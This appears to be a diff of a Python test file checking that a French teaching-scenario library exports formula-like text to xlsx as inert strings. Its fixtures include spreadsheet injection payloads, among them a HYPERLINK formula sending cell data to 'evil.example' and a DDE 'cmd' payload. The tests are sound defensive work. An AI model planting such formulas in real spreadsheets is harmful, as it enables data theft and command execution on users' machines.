@@ -3,6 +3,7 @@ import pytest
 
 from scenario_lib.errors import SpiraleError
 from scenario_lib.render import export
+from tests.sheetcheck import ATTACKS, live_xlsx_cells, xlsx_texts
 
 
 def test_grid_workbook(scenario, ref, tmp_path):
@@ -32,13 +33,30 @@ def test_document_type_without_sheets_is_refused_in_french(scenario, tmp_path):
 
 
 def test_text_typed_like_a_formula_stays_text(tmp_path, scenario):
-    import openpyxl
-
     from scenario_lib.render.export import export
 
-    doc = scenario.model_copy(update={"title": "=1+1 situation", "authors": ["=HYPERLINK(\"http://x\",\"clic\")"]})
-    path = export(doc, "xlsx", tmp_path / "grille.xlsx", eleves=["Dupont", "=SOMME(A1:A9)"])
-    cells = [c for ws in openpyxl.load_workbook(path).worksheets for row in ws.iter_rows() for c in row
-             if isinstance(c.value, str) and c.value.startswith("=")]
-    assert {c.value for c in cells} >= {"=1+1 situation", "=SOMME(A1:A9)"}
-    assert all(c.data_type == "s" for c in cells)
+    doc = scenario.model_copy(update={"title": "=1+1 situation", "authors": ATTACKS})
+    path = export(doc, "xlsx", tmp_path / "grille.xlsx", eleves=["Dupont", "=SOMME(A1:A9)", *ATTACKS])
+    assert live_xlsx_cells(path) == []
+    texts = xlsx_texts(path)
+    assert {"'=1+1 situation", "'=SOMME(A1:A9)", "'+1+1", "'@SUM(1)", "'-2+3", "Dupont"} <= texts
+    assert "'=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Cliquez ici\")" in texts
+
+
+def test_progression_sheets_keep_teacher_text_inert(tmp_path):
+    from scenario_lib.planning.progression import new_progression
+    from scenario_lib.render.export import export
+    from scenario_lib.scenario.model import Scenario
+
+    prog = new_progression("bacpro-mcv-b", "+1+1 classe", "guide-grand-est", title="=HYPERLINK(\"http://x\")")
+    situation = Scenario(title="@SUM(1) relance", level="seconde", competences=["1.1"],
+                         context={"name": "=cmd|' /C calc'!A0", "sector": "optique", "market": "B to C",
+                                  "channel": "face-à-face", "product": "lunettes", "target": "particuliers"},
+                         mission="Accueillir les clients.", tasks=[{"title": "Préparer", "duration_hours": 3}])
+    prog.place(situation, "seconde", prog.year("seconde").numbers("cours")[0])
+    path = export(prog, "xlsx", tmp_path / "progression.xlsx")
+    assert live_xlsx_cells(path) == []
+    texts = xlsx_texts(path)
+    assert {"'+1+1 classe", "'=HYPERLINK(\"http://x\")", "'@SUM(1) relance"} <= texts
+    week_numbers = [c.value for c in __import__("openpyxl").load_workbook(path).worksheets[0]["A"]]
+    assert 1 in week_numbers  # real numbers stay numbers
